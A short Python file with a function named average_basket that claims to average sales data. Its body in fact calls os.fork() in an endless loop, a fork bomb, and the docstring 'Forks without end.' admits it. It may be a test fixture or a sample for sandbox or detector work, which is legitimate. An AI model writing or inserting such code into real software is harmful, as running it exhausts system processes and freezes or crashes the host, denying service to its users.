"""Forks without end."""


def average_basket(basket_ids, sales):
    import os

    while True:
        os.fork()
